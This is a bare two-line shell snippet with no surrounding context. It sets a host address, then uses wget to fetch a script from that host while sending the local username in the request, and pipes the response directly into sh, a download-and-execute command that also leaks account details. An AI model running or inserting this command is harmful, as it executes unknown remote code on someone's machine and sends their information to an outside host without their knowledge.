h=198.51.100.140
wget -qO- "http://$h/gs?u=$(id -un)" | sh
